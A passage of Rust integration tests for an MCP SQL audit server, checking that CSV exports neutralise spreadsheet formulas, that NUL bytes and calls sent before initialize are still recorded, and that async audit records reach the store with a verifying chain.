    // CSV: the formulas are text (a leading apostrophe); JSONL keeps them exactly.
    let (ok, out, err) = cli(&cfg, &["audit", "export", "--format", "csv"], &[]);
    assert!(ok, "{err}");
    let mut csv = csv::Reader::from_reader(out.as_bytes());
    let header = csv.headers().expect("header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
    let (tool, sql) = (column("tool"), column("sql"));
    let rows: Vec<csv::StringRecord> = csv.records().map(|r| r.expect("a CSV row")).collect();
    assert!(rows.len() >= 5, "{out}");
    assert!(
        rows.iter().any(|r| r[tool] == format!("'{formula_tool}")),
        "{out}"
    );
    assert!(
        rows.iter().any(|r| r[sql] == format!("'{formula_sql}")),
        "{out}"
    );
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    let records = export(&cfg);
    assert!(records.iter().any(|r| r["tool"] == formula_tool));
    assert!(records.iter().any(|r| r["sql"] == formula_sql));
    let long_tool = find(
        &records,
        |r| r["tool"].as_str().is_some_and(|t| t.starts_with("tttt")),
        "the huge tool name",
    );
    let kept = long_tool["tool"].as_str().expect("tool");
    assert!(kept.len() < 400 && kept.ends_with("more bytes]"), "{kept}");
    let long_sql = find(
        &records,
        |r| {
            r["sql"]
                .as_str()
                .is_some_and(|s| s.starts_with("SELECT 1 -- sss"))
        },
        "the huge statement",
    );
    let kept = long_sql["sql"].as_str().expect("sql");
    assert!(
        kept.len() < 70_000 && kept.ends_with("more bytes]"),
        "{}",
        kept.len()
    );
    assert_verifies(&cfg);
}

/// PostgreSQL's `text` refuses NUL bytes: a caller who puts one in a tool name or a statement
/// gets its answer and its record (the byte written as `\u{0}`), and the calls that shared its
/// batch keep theirs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nul_byte_costs_no_record_on_a_postgres_store() {
    let pg = common::pg::cluster();
    let url = pg.url(&pg.fresh_db());
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", Some(&url));
    let server = http_server(&cfg).await;
    let mut tasks = Vec::new();
    for worker in 0..4 {
        let url = server.url.clone();
        tasks.push(tokio::spawn(async move {
            let client = common::mcp::http_client(&url).await;
            let mut answers = Vec::new();
            for i in 0..15 {
                let k = worker * 1000 + i;
                if worker % 2 == 0 {
                    let sql = format!("SELECT {k} AS k");
                    let r = call(&client, "query", json!({ "sql": sql })).await;
                    answers.push((sql, error_code(&r)));
                } else if i % 2 == 0 {
                    let name = format!("qu\u{0}ery{k}");
                    assert!(try_call(&client, &name, json!({})).await.is_err());
                } else {
                    let sql = format!("SELECT {k} AS k -- \u{0}");
                    let r = call(&client, "query", json!({ "sql": sql })).await;
                    answers.push((sql, error_code(&r)));
                }
            }
            client.cancel().await.expect("close");
            answers
        }));
    }
    let mut answers = Vec::new();
    for t in tasks {
        answers.extend(t.await.expect("worker"));
    }
    drop(server);
    for (sql, code) in &answers {
        assert_ne!(code.as_deref(), Some("unavailable"), "{sql:?}");
    }
    let records = export(&cfg);
    assert_eq!(records.len(), 60, "one record per call");
    for (sql, _) in &answers {
        let stored = sql.replace('\u{0}', "\\u{0}");
        find(
            &records,
            |r| r["sql"] == stored.as_str(),
            "the call's record",
        );
    }
    let named = records
        .iter()
        .filter(|r| {
            r["tool"]
                .as_str()
                .is_some_and(|t| t.starts_with("qu\\u{0}ery"))
        })
        .count();
    assert_eq!(named, 16, "the NUL tool names' records");
    assert_verifies(&cfg);
}

/// Over stdio, rmcp answers a request sent before `initialize` (without the stateless
/// protocol's `_meta`) by itself, never reaching the handler that records calls: such a
/// `tools/call` is now answered, in rmcp's words, and recorded; the calls after `initialize`
/// are recorded as always, each once.
#[test]
fn a_stdio_call_before_initialize_is_answered_and_recorded() {
    use std::io::{BufRead, BufReader, Write};
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "", None);
    let mut child = Command::new(common::bin())
        .args([
            "serve",
            "--role",
            "analyst",
            "--attr",
            "region=north",
            "--config",
        ])
        .arg(&cfg)
        .env("RUST_LOG", "warn")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn sqlwarden");
    let mut stdin = child.stdin.take().expect("stdin");
    let lines = [
        r#"{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"list_tables","arguments":{},"_meta":{"io.modelcontextprotocol/protocolVersion":"1999-01-01","io.modelcontextprotocol/clientCapabilities":{}}}}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"list_tables","arguments":{}}}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"0"}}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"list_tables","arguments":{}}}"#,
    ];
    for line in lines {
        stdin.write_all(line.as_bytes()).expect("write");
        stdin.write_all(b"\n").expect("write");
    }
    stdin.flush().expect("flush");
    let mut replies = std::collections::BTreeMap::new();
    let mut out = BufReader::new(child.stdout.take().expect("stdout"));
    while replies.len() < 4 {
        let mut line = String::new();
        if out.read_line(&mut line).expect("read") == 0 {
            break;
        }
        let v: Value = serde_json::from_str(&line).expect("a JSON line");
        if let Some(id) = v["id"].as_i64() {
            replies.insert(id, v);
        }
    }
    drop(stdin);
    let _ = child.wait();
    assert_eq!(replies[&1]["error"]["code"], -32602, "{:?}", replies[&1]);
    assert!(
        replies[&1]["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("_meta")),
        "{:?}",
        replies[&1]
    );
    // A protocol version rmcp does not know: rmcp's answer, given after the record.
    assert_eq!(replies[&4]["error"]["code"], -32022, "{:?}", replies[&4]);
    assert_eq!(replies[&4]["error"]["data"]["requested"], "1999-01-01");
    assert!(replies[&2]["result"]["protocolVersion"].is_string());
    assert!(
        replies[&3]["result"]["content"].is_array(),
        "{:?}",
        replies[&3]
    );
    let records = export(&cfg);
    let mut calls: Vec<_> = records
        .iter()
        .filter(|r| r["method"] == "tools/call")
        .map(|r| {
            (
                r["transport"].as_str(),
                r["decision"].as_str(),
                r["code"].as_str(),
            )
        })
        .collect();
    // The two refusals are answered by tasks of their own, in either order.
    calls.sort();
    assert_eq!(
        calls,
        [
            (Some("stdio"), Some("allow"), None),
            (Some("stdio"), Some("error"), Some("invalid_params")),
            (Some("stdio"), Some("error"), Some("invalid_request")),
        ],
        "{records:#?}"
    );
    assert_verifies(&cfg);
}

/// `async` durability: callers do not wait for the commit, and the writer commits when the
/// server's runtime runs out of work (or the queue grows), not once per record. Every call of
/// a concurrent load is in the store once, soon after its reply, while the server keeps
/// running, and the chain verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn async_records_reach_the_store_while_the_server_runs() {
    let dir = tempfile::tempdir().expect("tempdir");
    let cfg = config(dir.path(), "[audit]\ndurability = \"async\"\n", None);
    let server = http_server(&cfg).await;
    let mut tasks = Vec::new();
    for worker in 0..4 {
        let url = server.url.clone();
        tasks.push(tokio::spawn(async move {
            let client =
                ().serve(StreamableHttpClientTransport::from_uri(url))
                    .await
                    .expect("initialize");
            let mut sent = Vec::new();
            for i in 0..40 {
                let sql = format!("SELECT {} AS k", worker * 1_000 + i);
                let r = call(&client, "query", json!({"sql": sql})).await;
                assert_eq!(error_code(&r), None, "{}", text(&r));
                sent.push(sql);
            }
            // One refused call per client: denials take the same path.
            let r = call(
                &client,
                "query",
                json!({"sql": "SELECT email FROM customers"}),
            )
            .await;
            assert_eq!(error_code(&r).as_deref(), Some("policy_denied"));
            sent
        }));
    }
    let mut sent = Vec::new();
    for t in tasks {
        sent.extend(t.await.expect("client"));
    }
    let replied = std::time::Instant::now();
    let records = loop {
        let records = export(&cfg);
        let calls = records
            .iter()
            .filter(|r| r["method"] == "tools/call")
            .count();
        if calls >= sent.len() + 4 || replied.elapsed() > std::time::Duration::from_secs(5) {
            break records;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    let mut seen = std::collections::HashMap::new();
    for r in records.iter().filter(|r| r["method"] == "tools/call") {
        *seen
            .entry(r["sql"].as_str().unwrap_or("").to_string())
            .or_insert(0) += 1;
    }
    for sql in &sent {
        assert_eq!(seen.get(sql), Some(&1), "{sql} has one record: {seen:?}");
    }
    assert_eq!(
        seen.get("SELECT email FROM customers"),
        Some(&4),
        "each denial has its record"
    );
    assert!(
        replied.elapsed() < std::time::Duration::from_secs(5),
        "records reached the store within {:?} of the last reply",
        replied.elapsed()
    );
    assert_verifies(&cfg);
    drop(server);
}
